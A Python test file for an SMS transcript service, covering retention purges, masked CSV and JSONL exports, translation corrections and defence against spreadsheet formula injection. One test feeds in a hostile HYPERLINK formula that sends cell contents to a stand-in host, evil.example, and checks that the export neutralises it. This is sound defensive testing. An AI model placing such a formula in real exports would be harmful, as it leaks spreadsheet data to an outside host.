"""Retention deletes only what is closed and old; exports stream every message, masked."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

from sqlalchemy import func, select, update
from sqlalchemy.orm import Session, sessionmaker

from languages.memory import normalise
from tests.support.staff import STAFF
from transcripts.accounts import Accounts
from transcripts.corrections import Corrections
from transcripts.db import utcnow
from transcripts.export import export_rows, write_csv, write_jsonl
from transcripts.inbound import InboundSms, InboundTranslation
from transcripts.models import (
    Contact,
    Conversation,
    Disposition,
    Event,
    Message,
    Role,
    WebhookReceipt,
)
from transcripts.record import Record
from transcripts.retention import purge_before


def sms(sid: str, body: str, phone: str) -> InboundSms:
    return InboundSms(sid, phone, "+8215880120", body, {"MessageSid": sid, "Body": body})


def age(sessions: sessionmaker[Session], days: int) -> None:
    """Pretend everything recorded so far happened `days` ago."""
    then = utcnow() - timedelta(days=days)
    with sessions() as session, session.begin():
        session.execute(update(Conversation).values(created_at=then, last_message_at=then))
        session.execute(
            update(Conversation).where(Conversation.closed_at.is_not(None)).values(closed_at=then)
        )
        session.execute(update(Message).values(created_at=then))
        session.execute(update(WebhookReceipt).values(received_at=then))
        session.execute(update(Contact).values(created_at=then))


def count(sessions: sessionmaker[Session], model: type) -> int:
    with sessions() as session:
        return session.scalar(select(func.count()).select_from(model)) or 0


def test_purge_deletes_old_closed_conversations_only(
    sessions: sessionmaker[Session], record: Record
) -> None:
    old_closed = record.inbound.record_sms(sms("SM1", "old and closed", "+821011110000"))
    record.inbound.record_sms(sms("SM2", "old but still open", "+821022220000"))
    record.agents.close(old_closed.conversation_id, STAFF, Disposition.RESOLVED)
    age(sessions, 400)
    record.inbound.record_sms(sms("SM3", "new", "+821033330000"))
    cutoff = utcnow() - timedelta(days=365)

    preview = purge_before(sessions, cutoff, dry_run=True)
    assert (preview.conversations, preview.messages, preview.receipts) == (1, 1, 2)
    assert count(sessions, Message) == 3  # a dry run deletes nothing

    report = purge_before(sessions, cutoff)
    assert (report.conversations, report.messages, report.receipts, report.contacts) == (1, 1, 2, 1)
    with sessions() as session:
        texts = sorted(session.scalars(select(Message.original_text)))
        phones = sorted(session.scalars(select(Contact.phone)))
        orphans = session.scalar(
            select(func.count(Event.id)).where(Event.conversation_id == old_closed.conversation_id)
        )
    assert texts == ["new", "old but still open"]
    assert phones == ["+821022220000", "+821033330000"]
    assert orphans == 0
    assert purge_before(sessions, cutoff).conversations == 0  # nothing left to do


def test_export_streams_every_message_masked_by_default(
    sessions: sessionmaker[Session], record: Record
) -> None:
    body = "My ARC is 900101-5123456, call me on 010-1234-5678"
    for number in range(3):
        record.inbound.record_sms(sms(f"SM{number}", f"{body} ({number})", "+821055501234"))

    rows = list(export_rows(sessions))
    assert [row.original_text for row in rows] == [
        f"My ARC is ******-*******, call me on ***-****-5678 ({n})" for n in range(3)
    ]
    assert rows[0].phone == "*********1234"
    unmasked = list(export_rows(sessions, masked=False))
    assert unmasked[0].original_text.startswith("My ARC is 900101-5123456")
    assert unmasked[0].phone == "+821055501234"
    assert list(export_rows(sessions, since=utcnow() + timedelta(minutes=1))) == []

    lines = io.StringIO()
    assert write_jsonl(rows, lines) == 3
    assert json.loads(lines.getvalue().splitlines()[0])["direction"] == "inbound"
    table = io.StringIO()
    assert write_csv(rows, table) == 3
    parsed = list(csv.DictReader(io.StringIO(table.getvalue())))
    assert parsed[2]["original_text"].endswith("(2)")


def test_export_carries_the_machine_text_beside_an_admin_correction(
    sessions: sessionmaker[Session], record: Record
) -> None:
    stored = record.inbound.record_sms(sms("SM1", "Call me on 010-1234-5678", "+821055501234"))
    record.inbound.save_translation(
        stored.message_id,
        InboundTranslation("en", 0.9, "010-1234-5678로 전화", "argos", "m", None, 1.0, 1.0),
    )
    admin = Accounts(sessions).create("chief", Role.ADMIN, "x").id
    Corrections(sessions, normalise).correct_translation(
        stored.message_id, "010-1234-5678로 전화해 주세요", admin
    )

    (row,) = export_rows(sessions)
    assert row.translated_text == "***-****-5678로 전화해 주세요"
    assert row.machine_translation == "***-****-5678로 전화"  # masked like the rest
    assert row.machine_original_text is None  # a typed SMS is never corrected
    assert row.corrected_at is not None
    (unmasked,) = export_rows(sessions, masked=False)
    assert unmasked.machine_translation == "010-1234-5678로 전화"


def test_csv_cells_never_run_as_spreadsheet_formulas(
    sessions: sessionmaker[Session], record: Record
) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    for number, body in enumerate([hostile, "+1 555 0100", "-5 degrees", "@home", "fine"]):
        record.inbound.record_sms(sms(f"SM{number}", body, "+821055501234"))
    rows = list(export_rows(sessions, masked=False))
    table = io.StringIO()
    write_csv(rows, table)
    parsed = list(csv.DictReader(io.StringIO(table.getvalue())))
    assert [row["original_text"] for row in parsed] == [
        "'" + hostile,
        "'+1 555 0100",
        "'-5 degrees",
        "'@home",
        "fine",
    ]
    assert parsed[0]["phone"] == "'+821055501234"  # a number, not a sum, in a spreadsheet
    lines = io.StringIO()
    write_jsonl(rows, lines)
    assert json.loads(lines.getvalue().splitlines()[0])["original_text"] == hostile
